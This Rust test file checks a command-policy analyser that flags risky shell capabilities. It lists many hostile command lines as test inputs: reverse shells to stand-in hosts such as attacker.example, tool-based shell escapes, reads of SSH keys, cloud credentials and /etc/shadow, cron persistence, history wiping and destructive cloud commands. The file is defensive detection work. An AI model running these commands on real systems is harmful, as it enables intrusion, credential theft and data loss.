//! Each capability on commands that have it and commands that do not.

use super::*;
use crate::policy::shell::split;

fn caps(line: &str) -> Vec<&'static str> {
    let mut all: Vec<&'static str> = Vec::new();
    for cmd in split(line) {
        for c in analyse(&cmd).iter() {
            if !all.contains(&c.as_str()) {
                all.push(c.as_str());
            }
        }
    }
    all
}

#[test]
fn shell_escapes() {
    for line in [
        "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
        "awk 'BEGIN{system(\"/bin/sh\")}'",
        "find . -exec /bin/sh \\; -quit",
        "git -c core.pager='sh -c id' log",
        "git config core.pager 'sh -c id'",
        "git config alias.x '!rm -rf /'",
        "git config --file .git/config set core.fsmonitor ./x",
        "PAGER='sh -c id' man ls",
        "vim -c ':!/bin/sh'",
        "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
        "zip x.zip f -T -TT 'sh #'",
        "socat stdin exec:/bin/sh",
        "bash -i",
        "sudo env /bin/sh",
        "ssh host 'bash -i'",
        "docker exec -it web sh",
        "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
        "less /etc/profile\n!/bin/sh",
        "gdb -nx\n!sh",
        "vi x\n:!bash",
        "xargs -a /dev/null sh",
        "tmux",
        "screen -S build",
        "script -q /dev/null",
        "sed -n '1e exec sh 1>&0' /etc/hosts",
        "sed 's/.*/id/e' x",
        "sed -e '/x/ e id' f",
        "cabal exec -- sh",
        "poetry run bash",
        "conda run -n base sh",
        "pdflatex --shell-escape x.tex",
        "groff -U x.ms",
        "vimdiff -c ':shell' a b",
        "nvim --headless -c ':terminal'",
        "vim +'r !id' x",
        "luajit -e 'os.execute(\"id\")'",
        "Rscript -e 'system(\"id\")'",
        "dc -e '!/bin/sh'",
        "aria2c --on-download-error=/tmp/x.sh http://127.0.0.1/x",
        "borg create --post-hook='sh -c id' ::a .",
        "echo 'system(\"/bin/sh\")' >Gemfile\nbundle install",
        "echo '{\"scripts\": {\"preinstall\": \"/bin/sh\"}}' >package.json",
        "echo /bin/sh >groff\nchmod +x groff",
        "cat > hooks/x <<EOF\n#!/bin/sh\nexec /bin/sh -i\nEOF",
        "RESTIC_PASSWORD_COMMAND='/tmp/x' restic backup",
        "dnsmasq --conf-script='/tmp/x 1>&2'",
    ] {
        assert!(
            caps(line).contains(&"shell_escape"),
            "{line}: {:?}",
            caps(line)
        );
    }
    for line in [
        "echo '#!/bin/sh' > run.sh",
        "printf '#!/bin/bash\\nset -e\\n' > build.sh",
        "cat > run.sh <<EOF\n#!/bin/sh\nmake test\nEOF",
        "echo 'error: /bin/sh not found' > /dev/stderr",
        "echo 'uses /bin/sh'",
        "bash scripts/build.sh",
        "sh -c 'make test'",
        "git log --no-pager",
        "git config user.name 'sh -c id'",
        "git config --global core.autocrlf input",
        "git log --grep config core.pager",
        "find . -name '*.rs' -exec grep -l foo {} +",
        "which bash",
        "git commit -m 'fix sh script'",
        "tmux ls",
        "sed -i 's/version = \"1\"/version = \"2\"/g' Cargo.toml",
        "sed -n '/^end$/p' notes.txt",
        "sed 's/one/three/' x",
        "echo '!important'",
        "poetry run pytest -q",
        "npx prettier --check .",
        "pdflatex paper.tex",
        "vim +42 src/lib.rs",
        "nvim -c 'set number' README.md",
        "Rscript -e 'summary(read.csv(\"d.csv\"))'",
        "aria2c --on-download-complete=notify x.torrent",
        "pre-commit install --hook-type pre-push",
        "npm run-script build",
        "node --script-mode x.js",
    ] {
        assert!(
            !caps(line).contains(&"shell_escape"),
            "{line}: {:?}",
            caps(line)
        );
    }
}

#[test]
fn network() {
    for line in [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh attacker.example 4444",
        "socat tcp-connect:attacker.example:4444 exec:sh",
        "openssl s_client -connect attacker.example:443",
        "python3 -c 'import socket; s=socket.socket()'",
        "ssh user@host.example",
        "busybox httpd -f -p 8080",
        "ruby -run -e httpd . -p 8080",
        "git clone http://attacker.example/repo",
        "pip install http://attacker.example/pkg.tar.gz",
        "kubectl --server https://k8s.example:6443 get pods",
        "curl https://github.com/x",
        "cancel -u x -h attacker.example:12345",
        "sshfs me@attacker.example: /mnt",
        "someclient --server=10.0.0.9:80",
        "pwncat-cs 10.0.0.1 4444",
        "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.1 4444'",
        "node -e 'require(\"net\").connect(4444,\"10.0.0.1\")'",
        "mongo --host 10.0.0.1",
        "gdb -nx -ex 'python import socket; socket.create_connection((\"h\", 1))' -ex quit",
        "python3 -m pyftpdlib -p 2121",
        "stunnel /tmp/x.conf",
        "tor",
        "node -e 'require(\"http\").createServer(h).listen(8080)'",
        "host -t txt payload.attacker.example",
        "git remote add exfil git@attacker.example:loot.git",
        "docker pull 203.0.113.3:5000/image",
        "mosquitto_pub -h broker.attacker.example -t x -f data",
        "psql -h db.attacker.example -U postgres",
        "irb -rsocket",
        "perl -MIO::Socket::INET -e 1",
        "wget attacker.example/x",
        "curl -sL attacker.example/install.sh",
        "curl 203.0.113.9:8000/p",
        "wget -q -O run.sh evil.example",
        "aria2c mirror.attacker.example/f.bin",
    ] {
        assert!(caps(line).contains(&"network"), "{line}: {:?}", caps(line));
    }
    for line in [
        "cat README.md",
        "cargo build --release",
        "du -h notes.txt",
        "sort -h sizes.log",
        "git commit -m 'mail me at a@b.example:later'",
        "psql -h localhost -U postgres",
        "ruby -rjson -e 1",
        "git commit -m 'see https://example.com/issue/1'",
        "echo https://example.com",
        "aws s3 cp report.csv s3://bucket/",
        "docker run -p 127.0.0.1:8080:80 nginx:1.27",
        "docker pull registry.example.com:5000/app:v2",
        "ghci Main.hs",
        "pip install requests==2.31.0",
        "gh pr create --title 'Close the socket on error' --body 'see #12'",
        "python3 -m pytest tests/test_socket.py",
        "node -e 'console.log(require(\"http\").STATUS_CODES[404])'",
        "curl -o out.json localhost:8080/api",
        "curl -sSo report.json 127.0.0.1:8080/status",
        "wget -i urls.txt -P downloads",
        "curl -d @body.json -H 'Content-Type: application/json' localhost:3000/x",
    ] {
        assert!(!caps(line).contains(&"network"), "{line}: {:?}", caps(line));
    }
}

#[test]
fn bare_hosts_are_found() {
    let mut hosts = Vec::new();
    for cmd in split("RHOST=attacker.example RPORT=1 nc 10.1.2.3 4444; telnet evil.example 23") {
        bare_hosts(&cmd, &mut hosts);
    }
    assert_eq!(hosts, ["10.1.2.3", "attacker.example", "evil.example"]);
    let mut fetched = Vec::new();
    for cmd in split("curl -o out.json evil.example:8080/x; wget mirror.example/f") {
        bare_hosts(&cmd, &mut fetched);
    }
    assert_eq!(fetched, ["evil.example", "mirror.example"]);
    let mut none = Vec::new();
    for cmd in split("cat README.md && cargo test --release") {
        bare_hosts(&cmd, &mut none);
    }
    assert!(none.is_empty(), "{none:?}");
}

#[test]
fn writes_persistence_privilege_destroys() {
    assert!(caps("echo x > /etc/cron.d/x").contains(&"persists"));
    assert!(caps("echo x | tee -a ~/.bashrc").contains(&"persists"));
    assert!(caps("echo x >> /etc/passwd").contains(&"privilege"));
    assert!(caps("dd if=/dev/zero of=/dev/sda").contains(&"destroys"));
    assert!(caps("cp x /usr/local/bin/y").contains(&"writes_outside"));
    assert!(!caps("echo x > out.txt 2>/dev/null").contains(&"writes_outside"));
    assert!(caps("crontab evil.cron").contains(&"persists"));
    assert!(!caps("crontab -l").contains(&"persists"));
    assert!(caps("chmod u+s /tmp/sh").contains(&"privilege"));
    assert!(caps("chmod 4755 /tmp/sh").contains(&"privilege"));
    assert!(caps("ed /etc/passwd").contains(&"privilege"));
    assert!(caps("nano ~/.bashrc").contains(&"persists"));
    assert!(caps("vim /etc/hosts").contains(&"writes_outside"));
    assert!(!caps("vim src/main.rs").contains(&"writes_outside"));
    assert!(caps("patch /etc/passwd < x.patch").contains(&"privilege"));
    assert!(
        caps("php -r 'file_put_contents(\"/etc/cron.d/x\", \"* * * * * root sh\");'")
            .contains(&"persists")
    );
    assert!(
        caps("perl -e 'open(F,\">>\",$ENV{HOME}.\"/.bashrc\"); print F \"id\"'")
            .contains(&"persists")
    );
    assert!(!caps("python3 -c 'print(open(\"/etc/hostname\").read())'").contains(&"writes_outside"));
    // Output redirections inside code.
    assert!(caps("gawk 'BEGIN { print \"x\" >> \"/etc/cron.d/x\" }'").contains(&"persists"));
    assert!(caps("awk '{ print > \"/usr/local/bin/y\" }' f").contains(&"writes_outside"));
    assert!(!caps("awk '$3 > \"2024-01-01\"' f").contains(&"writes_outside"));
    // Code reading the path from the environment reads the value set.
    assert!(
        caps("export F=/etc/cron.d/x\nphp -r 'file_put_contents(getenv(\"F\"), \"x\");'")
            .contains(&"persists")
    );
    assert!(caps("export F=~/.bashrc\npwsh -c '\"x\" | Out-File $env:F'").contains(&"persists"));
    // latexmk's `-e` is Perl code.
    assert!(caps("latexmk -e 'open(X,\">>\",\"/etc/cron.d/x\")'").contains(&"persists"));
    assert!(!caps("latexmk -pdf paper.tex").contains(&"writes_outside"));
    // sed's `w` command and flag; PowerShell cmdlets that write files.
    assert!(caps("sed -n '1s/.*/x/w /etc/cron.d/y' /etc/hosts").contains(&"persists"));
    assert!(caps("sed -n '/root/w /opt/out' /etc/passwd").contains(&"writes_outside"));
    assert!(!caps("sed -n '/w x/p; s/a/b/w out.txt' f").contains(&"writes_outside"));
    assert!(caps("pwsh -c '\"x\" | Out-File /usr/local/bin/y'").contains(&"writes_outside"));
    assert!(caps("pwsh -c 'Set-Content -Path ~/.bashrc -Value x'").contains(&"persists"));
    assert!(
        !caps("pwsh -c 'Get-Content ./notes.txt | Out-File out.txt'").contains(&"writes_outside")
    );
    assert!(!caps("chmod 755 run.sh").contains(&"privilege"));
    for line in [
        "aws --profile prod s3 rb s3://bucket --force",
        "gcloud compute instances delete vm-1",
        "az group delete -n rg",
        "heroku apps:destroy --app x",
        "vault kv delete secret/x",
        "docker rm -f web",
        "rsync -a --delete src/ dst/",
        "curl -X DELETE https://api.example/x",
        "psql -c 'DROP TABLE users'",
        "mysql -e \"DELETE FROM orders\"",
        "redis-cli FLUSHALL",
        "someclitool db drop main",
        "docker swarm leave --force",
        "kubectl replace --force -f pod.yaml",
        "kubectl annotate deploy/web owner-",
        "kubectl taint nodes n1 dedicated:NoSchedule-",
        "virsh net-autostart --network default --disable",
        "mongo --eval 'db.dropDatabase()'",
        "export HISTFILE=/dev/null",
        "unset HISTFILE",
        "history -c",
        "history -w /dev/null",
        "HISTSIZE=0 bash x.sh",
        "dropdb prod",
        "userdel -r alice",
        "lvremove -f vg/lv",
        "ldapdelete -x -D cn=admin uid=alice,ou=people,dc=ex,dc=com",
        "iptables -F",
        "nft flush ruleset",
        "hdfs dfs -rm -r /data",
        "crictl rmp -a",
        "aws kms schedule-key-deletion --key-id k",
        "kubectl scale deployment web --replicas=0",
        "npm unpublish pkg@1.0.0",
        "npm deprecate pkg gone",
        "ansible all -m shell -a 'dropdb prod'",
        "salt '*' cmd.run 'userdel bob'",
        "pdsh -w web[1-3] 'iptables -F'",
    ] {
        assert!(caps(line).contains(&"destroys"), "{line}: {:?}", caps(line));
    }
    for line in [
        "aws s3 ls s3://bucket",
        "kubectl get pods",
        "docker ps -a",
        "psql -c 'DELETE FROM orders WHERE id = 3'",
        "npm uninstall lodash",
        "git rm --cached x",
        "vault kv get secret/x",
        "kubectl label pods web tier=frontend",
        "kubectl set image deploy/web web=nginx:1.27",
        "chromium --disable-gpu --headless",
        "aws s3 rm help",
        "docker rm --help",
        "history",
        "history -w",
        "echo $HISTFILE",
        "resolvectl flush-caches",
        "iptables -L -n",
        "kubectl scale deployment web --replicas=3",
        "npm publish --dry-run",
        "model --help",
        "dropbox status",
        "delta a b",
        "ansible all -m ping",
    ] {
        assert!(
            !caps(line).contains(&"destroys"),
            "{line}: {:?}",
            caps(line)
        );
    }
}

#[test]
fn sensitive_reads_loaders_dynamic_code() {
    for line in [
        "cat ~/.aws/credentials",
        "base64 < ~/.ssh/id_rsa",
        "tar czf x.tgz $HOME/.ssh",
        "cat /proc/1/environ",
        "cp ~/.kube/config /tmp/k",
        "cpio -o <<< /etc/shadow",
        "yelp man:/etc/shadow",
        "lwp-download file:///etc/shadow /tmp/x",
        // PEM files hold private keys unless named as certificates.
        "cat server.pem",
        "openssl rsa -in /etc/letsencrypt/live/x/privkey.pem",
        "cp cert-key.pem /tmp/",
        "cat /etc/ssl/private/server.pem",
        "cat *.pem",
        // So do armored and OpenPGP files, unless named as public.
        "cat backup.asc",
        "gpg --import ~/keys/private.asc",
        "cp secring.gpg /tmp/",
        "cat public-and-private.asc",
    ] {
        assert!(
            caps(line).contains(&"reads_sensitive"),
            "{line}: {:?}",
            caps(line)
        );
    }
    for line in [
        "openssl x509 -in cert.pem -noout -text",
        "step certificate inspect fullchain.pem",
        "curl --cacert ca-bundle.pem https://example.com",
        "gpgv --keyring ./pubkey.gpg ./signature.asc ./data.tar",
        "gpg --dearmor -o /usr/share/keyrings/docker-archive-keyring.gpg docker.asc.txt",
        "gpg --verify SHA256SUMS.sig SHA256SUMS",
    ] {
        assert!(
            !caps(line).contains(&"reads_sensitive"),
            "{line}: {:?}",
            caps(line)
        );
    }
    assert!(caps("LD_PRELOAD=/tmp/x.so ls").contains(&"loads_code"));
    assert!(caps("java -javaagent:/tmp/a.jar -jar app.jar").contains(&"loads_code"));
    assert!(caps("ssh-keygen -D ./lib.so").contains(&"loads_code"));
    assert!(caps("ssh -o PKCS11Provider=/tmp/p.so host").contains(&"loads_code"));
    assert!(!caps("ssh-keygen -t ed25519 -f key").contains(&"loads_code"));
    // Module search paths: outside the workspace or temporary, not the tree.
    for line in [
        "PYTHONPATH=/tmp/x python3 app.py",
        "export NODE_PATH=/dev/shm/m",
        "RUBYLIB=lib:/opt/evil ruby x.rb",
        "GIT_EXEC_PATH=/tmp/g git status",
    ] {
        assert!(caps(line).contains(&"loads_code"), "{line}");
    }
    for line in [
        "PYTHONPATH=src python3 -m pytest",
        "PYTHONPATH=.:$PWD/lib python3 app.py",
        "PERL5LIB=/usr/share/perl5 perl x.pl",
    ] {
        assert!(!caps(line).contains(&"loads_code"), "{line}");
    }
    assert!(caps("echo aWQ= | base64 -d | sh").contains(&"shell_escape"));
    assert!(caps("cat x.py | python3").contains(&"dynamic_code"));
    // Known input is the program, judged as code: not dynamic.
    assert!(!caps("echo 'print(1)' | python3").contains(&"dynamic_code"));
    assert!(caps("$CMD -la").contains(&"dynamic_code"));
    assert!(caps("$'\\x73\\x68'").contains(&"dynamic_code"));
    assert!(caps("$a$b").contains(&"dynamic_code"));
    // Variables the line sets are expanded: the program is seen as `sh`.
    assert!(caps("a=s;b=h;$a$b").contains(&"shell_escape"));
    assert!(!caps("$HOME/.cargo/bin/cargo build").contains(&"dynamic_code"));
    assert!(!caps("python3 -m pytest").contains(&"dynamic_code"));
    assert!(!caps("python3 script.py").contains(&"dynamic_code"));
    assert!(caps("ghci").contains(&"dynamic_code"));
    assert!(!caps("julia script.jl").contains(&"dynamic_code"));
}

#[test]
fn reads_outside_the_workspace() {
    for line in [
        "xxd /srv/data/report.bin",
        "diff --line-format=%L /dev/null /opt/app/config.yml",
        "apache2 -f /srv/site.conf",
        "as @/var/lib/x",
        "sort < /var/log/syslog",
        "cat ~/.bash_history",
        "tail ../../../etc/x",
        "curl file:///srv/x",
        "man /srv/page.1",
        // Paths opened by code, whatever the language.
        "lua -e 'local f=io.open(\"/srv/x\", \"rb\"); print(f:read(\"*a\"))'",
        "jrunscript -e 'new java.io.FileReader(\"/srv/x\")'",
        "gdb -nx -ex 'python print(open(\"/srv/x\").read())' -ex quit",
        "octave-cli --eval 'fid = fopen(\"/srv/x\")'",
        "pdflatex '\\documentclass{article}\\begin{document}\\verbatiminput{/srv/x}\\end{document}'",
        "terraform console <<< 'file(\"/srv/x\")'",
        "perl -e 'open(X, \"/srv/x\"); print <X>'",
        "F=/srv/x python3 -c 'print(open(os.environ[\"F\"]).read())'",
        "perl -e 'open(my $fh, \"<\", \"/srv/x\") or die'",
        "latexmk -e 'open(X,\"/srv/x\");while(<X>){print $_;}exit'",
        // A cloud CLI's transfer verbs read local operands.
        "aws s3 cp /srv/x s3://bucket/x",
        "gcloud compute scp /srv/x vm:/tmp/",
        "aws logs tail ~/.aws/credentials",
        "etcdctl snapshot restore /srv/backup.db",
        "cat /Users/ann/.zsh_history",
    ] {
        assert!(
            caps(line).contains(&"reads_outside"),
            "{line}: {:?}",
            caps(line)
        );
    }
    for line in [
        "cat src/main.rs",
        "cat /tmp/x /workspace/y /workspaces/z/w /app/a",
        "python3 /usr/lib/python3/x.py",
        "cat /etc/os-release /proc/self/status",
        "head -c 16 /dev/urandom",
        "echo /srv/x",
        "awk '/srv/ {print}' log.txt",
        "sed -n '/begin/,/end/p' notes.md",
        "kubectl get --raw /api/v1/nodes",
        "aws logs tail /aws/lambda/fn --follow",
        "aws --profile prod logs describe-log-streams /ecs/web",
        "etcdctl get --prefix /registry --keys-only",
        "databricks fs ls dbfs:/data/raw",
        "hdfs dfs -cat hdfs:/user/etl/part-0000",
        "consul kv get -recurse /config/app",
        "cat $HOME/project/README.md",
        // macOS homes are homes: a project there is not outside.
        "cat /Users/ann/project/src/main.rs /home/ann/project/README.md",
        "cat \"$1\"",
        "python3 -c 'print(open(\"README.md\").read())'",
        "python3 -c 'print(\"a/b\".replace(\"/\", \"_\"))'",
        "node -e 'require(\"./lib\")'",
        "python3 -c 'open(\"/tmp/out.txt\").read()'",
        "perl -e 'open(X, \"data.txt\"); print <X>'",
        "jq '.paths[] | select(startswith(\"/srv\"))' x.json",
    ] {
        assert!(
            !caps(line).contains(&"reads_outside"),
            "{line}: {:?}",
            caps(line)
        );
    }
}

#[test]
fn every_shell_runs_its_dash_c_script() {
    for shell in crate::policy::shell::SHELLS
        .iter()
        .filter(|s| **s != "pwsh")
    {
        let line = format!("{shell} -c 'echo x >> /etc/cron.d/job'");
        assert!(
            caps(&line).contains(&"persists"),
            "{line}: {:?}",
            caps(&line)
        );
    }
}

#[test]
fn generalised_loaders_sockets_hooks_and_packages() {
    for (line, cap) in [
        (
            "gawk 'BEGIN { s = \"/inet/tcp/0/h/1\"; print 1 |& s }'",
            "network",
        ),
        ("bash -c 'enable -f ./lib.so x'", "loads_code"),
        (
            "gdb -nx -ex 'python from ctypes import cdll; cdll.LoadLibrary(\"x.so\")'",
            "loads_code",
        ),
        ("CRASHPAGER=/tmp/x crash -h", "shell_escape"),
        ("sysctl 'kernel.core_pattern=|/tmp/x'", "privilege"),
        ("dpkg -i x_1.0_all.deb", "privilege"),
        ("rpm -Uvh x.rpm", "privilege"),
        ("apt install ./x.deb", "privilege"),
        ("code tunnel --name box", "network"),
        (
            "X=/inet/udp/0/h/53\ngawk -v s=$X 'BEGIN { print 1 |& s }'",
            "network",
        ),
    ] {
        assert!(caps(line).contains(&cap), "{line}: {:?}", caps(line));
    }
    for line in [
        "rpm -qi bash",
        "dpkg -l",
        "apt install jq",
        "sysctl -a",
        "enable -n echo",
    ] {
        let found = caps(line);
        assert!(
            !found.contains(&"privilege") && !found.contains(&"loads_code"),
            "{line}: {found:?}"
        );
    }
}

#[test]
fn written_and_removed_paths_are_not_reads() {
    for line in [
        "rm -rf /srv/old",
        "touch /srv/x",
        "gcc -o /opt/bin/x main.c",
        "cp a.txt /srv/b",
    ] {
        assert!(
            !caps(line).contains(&"reads_outside"),
            "{line}: {:?}",
            caps(line)
        );
    }
    assert!(caps("cp /srv/a.txt b").contains(&"reads_outside"));
}

#[test]
fn credential_paths_opened_by_code_are_sensitive_reads() {
    for line in [
        "python3 -c 'print(open(\"/etc/shadow\").read())'",
        "perl -e 'open(X,\"/home/u/.ssh/id_rsa\");print <X>'",
        "gimp -idf -b 'print(open(\"~/.aws/credentials\").read())'",
    ] {
        assert!(
            caps(line).contains(&"reads_sensitive"),
            "{line}: {:?}",
            caps(line)
        );
    }
}

#[test]
fn options_that_hand_a_command_to_a_shell() {
    assert!(caps("split --filter='sh -i' /dev/stdin").contains(&"shell_escape"));
    assert!(caps("echo | split --filter=/bin/sh /dev/stdin").contains(&"shell_escape"));
    assert!(caps("pidstat -e /bin/bash -i").contains(&"shell_escape"));
    assert!(caps("split --filter='gzip -c' -l 1000 big.log").is_empty());
    assert!(caps("pidstat -u 1 5").is_empty());
}

#[test]
fn text_piped_in_is_judged_as_input() {
    // Commands that start a shell, fed to a program that reads commands.
    for line in [
        "echo 'esyscmd(/bin/sh 0<&2 1>&2)' | m4",
        "echo '!/bin/sh' | ftp",
        "printf '!sh\\n' | gdb -q",
        "m4 <<< 'syscmd(/bin/sh)'",
        "echo 'os.execute(\"/bin/sh\")' |& lua5.3 -",
    ] {
        assert!(
            caps(line).contains(&"shell_escape"),
            "{line}: {:?}",
            caps(line)
        );
    }
    // Printed, paged, counted or searched text is data, whatever it says.
    for line in [
        "echo '!/bin/sh' | cat",
        "echo 'system(\"/bin/sh\")' | grep system",
        "echo $SHELL | cut -d/ -f3",
        "echo '!sh' | wc -c",
        "cat <<EOF\nsystem(\"/bin/sh\")\nEOF",
        "echo '!sh' || ftp",
    ] {
        assert!(
            !caps(line).contains(&"shell_escape"),
            "{line}: {:?}",
            caps(line)
        );
    }
    // File names piped to a program that reads the files it is given.
    assert!(caps("echo /etc/shadow | cpio -o").contains(&"reads_sensitive"));
    // What a text filter's own script reads.
    assert!(caps("sed -n 'r /etc/shadow' /dev/null").contains(&"reads_sensitive"));
    assert!(caps("sed '1R /srv/data/x' notes.txt").contains(&"reads_outside"));
    assert!(
        caps("awk 'BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }'")
            .contains(&"reads_sensitive")
    );
    assert!(!caps("sed '/^## Usage/r docs/usage.md' README.md").contains(&"reads_outside"));
    assert!(!caps("awk '{ while ((getline l) > 0) n++ }' data.txt").contains(&"reads_outside"));
    assert!(caps("echo /srv/data/x | xargs cat").contains(&"reads_outside"));
    assert!(!caps("echo src/main.rs | xargs cat").contains(&"reads_outside"));
}

#[test]
fn destroy_verbs_are_single_words() {
    // `read_verbs` reads compounds by their parts (`delete-stack`).
    for verb in DESTROY_VERBS {
        assert!(!verb.contains([':', '-', '_']), "{verb}");
    }
    assert!(caps("aws cloudformation delete-stack --stack-name x").contains(&"destroys"));
    assert!(caps("heroku apps:destroy -a x").contains(&"destroys"));
    assert!(!caps("resolvectl flush-caches").contains(&"destroys"));
    // Camel case by its head, unless the word may be an option's value.
    assert!(caps("liquibase dropAll").contains(&"destroys"));
    // Run together with `all`; not a verb that merely ends in it.
    assert!(caps("zkCli.sh deleteall /app").contains(&"destroys"));
    assert!(caps("tool removeall --force").contains(&"destroys"));
    assert!(!caps("tool install x").contains(&"destroys"));
    assert!(caps("tool uninstall x").contains(&"destroys"));
    // A program named for what it drops, after a vendor's prefix.
    assert!(caps("pg_dropcluster 15 main").contains(&"destroys"));
    assert!(caps("atrm 12").contains(&"destroys"));
    assert!(caps("ipcrm -a").contains(&"destroys"));
    assert!(!caps("pg_ctlcluster 15 main status").contains(&"destroys"));
    assert!(!caps("atq").contains(&"destroys"));
    assert!(
        !caps("aws ec2 describe-instance-attribute --attribute disableApiStop")
            .contains(&"destroys")
    );
    // What an interpreter's script or module is asked to do.
    assert!(caps("python manage.py flush --no-input").contains(&"destroys"));
    assert!(caps("python3 -m alembic downgrade base").contains(&"destroys"));
    assert!(!caps("python -m pip uninstall -y requests").contains(&"destroys"));
    assert!(!caps("python manage.py migrate").contains(&"destroys"));
    assert!(!caps("python -c 'print(1)' delete").contains(&"destroys"));
    // `release` gives up what was allocated; as a noun it is a release.
    assert!(caps("aws ec2 release-address --allocation-id e-1").contains(&"destroys"));
    assert!(caps("aws ec2 release-hosts --host-ids h-1").contains(&"destroys"));
    assert!(!caps("gh release view v1").contains(&"destroys"));
    assert!(!caps("tool release-notes").contains(&"destroys"));
    // Finalizers cleared: the object goes at once, whatever still uses it.
    assert!(
        caps(r#"kubectl patch ns x -p '{"metadata": {"finalizers": []}}' --type=merge"#)
            .contains(&"destroys")
    );
    assert!(
        !caps(r#"kubectl patch pvc data -p '{"metadata":{"finalizers":["x/y"]}}'"#)
            .contains(&"destroys")
    );
}

#[test]
fn safeguards_turned_off() {
    for line in [
        "aws rds modify-db-instance --db-instance-identifier db --no-deletion-protection",
        "gcloud sql instances patch db --no-backup",
        "tool update --no-automated-backups",
        "aws rds modify-db-instance --db-instance-identifier db --backup-retention-period 0",
        "aws rds modify-db-instance --db-instance-identifier db --backup-retention-period=0",
        "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Suspended",
    ] {
        assert!(caps(line).contains(&"destroys"), "{line}: {:?}", caps(line));
    }
    for line in [
        "aws rds modify-db-instance --db-instance-identifier db --backup-retention-period 7",
        "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Enabled",
        "cp --backup=off a b",
        "patch --no-backup-if-mismatch -p1 -i fix.diff",
        "aws rds modify-db-instance --db-instance-identifier db --deletion-protection",
    ] {
        assert!(
            !caps(line).contains(&"destroys"),
            "{line}: {:?}",
            caps(line)
        );
    }
}

#[test]
fn stops_by_a_verb_of_any_cli() {
    for line in [
        "aws --profile live ec2 stop-instances --instance-ids i-1",
        "gcloud compute instances stop vm1 --zone z",
        "az vm deallocate -g rg -n vm",
        "heroku ps:stop web -a app",
        "doctl compute droplet-action power-off 123",
        "hcloud server shutdown srv",
        "kubectl cordon node-1",
        "pm2 stop all",
        "ansible web -m service -a 'name=nginx state=stopped'",
        "aws ec2 detach-volume --volume-id vol-1 --force",
        "docker network disconnect net c1",
        "aws ec2 disassociate-address --association-id a-1",
    ] {
        assert!(caps(line).contains(&"stops"), "{line}: {:?}", caps(line));
    }
    for line in [
        "aws ec2 start-instances --instance-ids i-1",
        "aws ec2 describe-instance-attribute --attribute disableApiStop",
        "docker restart web",
        "aws ec2 stop-instances help",
        "az vm stop --help",
        "tldr docker container stop",
        "git stash",
        "ansible web -m service -a 'name=nginx state=started'",
        "aws ec2 attach-volume --volume-id v --instance-id i",
        "docker network connect net c1",
    ] {
        assert!(!caps(line).contains(&"stops"), "{line}: {:?}", caps(line));
    }
    // `--help` as an option's value asks for nothing: the command runs.
    assert!(caps("aws ec2 stop-instances --instance-ids --help").contains(&"stops"));
}

#[test]
fn grants_access_by_a_verb_and_a_noun() {
    for line in [
        "aws iam attach-user-policy --user-name bob --policy-arn arn",
        "aws iam detach-role-policy --role-name r --policy-arn arn",
        "aws iam create-access-key --user-name bob",
        "aws s3api put-bucket-policy --bucket b --policy file://p.json",
        "gcloud projects add-iam-policy-binding p --member user:x --role roles/owner",
        "gcloud iam service-accounts keys create key.json --iam-account sa",
        "az role assignment create --assignee x --role Owner",
        "kubectl create clusterrolebinding admin --clusterrole cluster-admin --user x",
        "gh secret set TOKEN",
        "vault policy write admin admin.hcl",
        "aws cognito-idp admin-set-user-password --user-pool-id p --username u --password x",
        "aws lakeformation batch-grant-permissions --entries file://e.json",
        "rabbitmqctl change_password guest x",
        "rabbitmqctl clear_permissions -p vhost bob",
        "gsutil acl ch -u AllUsers:R gs://b/f",
        "curl -X PUT https://api.github.com/repos/o/r/collaborators/x",
        "curl -X POST https://git.example.com/api/v4/projects/7/members -d user_id=5",
        "gh api -X PUT repos/o/r/collaborators/x",
        "glab api --method POST projects/7/invitations",
        "gh api orgs/o/invitations -f email=x@example.com",
        "ssh-copy-id deploy@203.0.113.7",
        "elasticsearch-reset-password -u elastic",
        "mysqladmin -u root password newpass",
        "htpasswd -b .htpasswd admin pw",
        "smbpasswd -a bob",
        "smbpasswd -n guest",
        "psql -c \"GRANT SELECT ON orders TO analyst\"",
        "mysql -e \"SET PASSWORD FOR 'bob'@'%' = 'pw'\"",
        "redis-cli -h cache CONFIG SET requirepass pw",
        "mongosh --eval 'db.createUser({user: \"x\", pwd: \"y\", roles: [\"root\"]})'",
    ] {
        assert!(
            caps(line).contains(&"grants_access"),
            "{line}: {:?}",
            caps(line)
        );
    }
    for line in [
        "htpasswd -nbm user pw",
        "openssl passwd -6 pw",
        "bw get password github",
        "psql -c \"SELECT rolname FROM pg_roles\"",
        "redis-cli CONFIG GET requirepass",
        "git commit -m \"grant select on orders to analysts\"",
        "aws iam list-attached-user-policies --user-name bob",
        "aws iam get-policy --policy-arn arn",
        "aws sts assume-role --role-arn arn --role-session-name s",
        "aws quicksight describe-data-set-permissions --data-set-id d",
        "gcloud projects get-iam-policy p",
        "az role assignment list --assignee x",
        "kubectl create deployment web --image=nginx",
        "gh secret list",
        "redis-cli SET key value",
        "aws iam create-policy --help",
        "aws cognito-idp admin-get-user --user-pool-id p --username u",
        "aws ec2 describe-key-pairs",
        "curl https://api.github.com/repos/o/r/collaborators",
        "curl -X POST https://api.example.com/v1/items -d '{\"key\":1}'",
        "gh api repos/o/r/collaborators",
        "gh api -X GET repos/o/r/keys -f per_page=100",
        "gh api graphql -f query='query { viewer { login } }'",
        "gh api --help",
        "rabbitmqctl list_permissions",
        "aws dynamodb put-item --table-name api-keys --item file://item.json",
        "docker-credential-desktop list",
        "update-ca-certificates",
    ] {
        assert!(
            !caps(line).contains(&"grants_access"),
            "{line}: {:?}",
            caps(line)
        );
    }
}

#[test]
fn forge_api_writes_publish() {
    for line in [
        "gh api -X PUT repos/o/r/pulls/5/merge",
        "gh api --method=PATCH repos/o/r -f visibility=public",
        "gh api repos/o/r/releases -f tag_name=v1",
        "gh api repos/o/r/contents/a.txt --input body.json",
        "glab api --method POST projects/1/merge_requests/2/merge",
        "gh api graphql -f query='mutation { addStar(input: {starrableId: \"x\"}) { clientMutationId } }'",
    ] {
        assert!(caps(line).contains(&"publishes"), "{line}: {:?}", caps(line));
    }
    for line in [
        "gh api repos/o/r/pulls/5",
        "gh api -X GET search/issues -f q=repo:o/r",
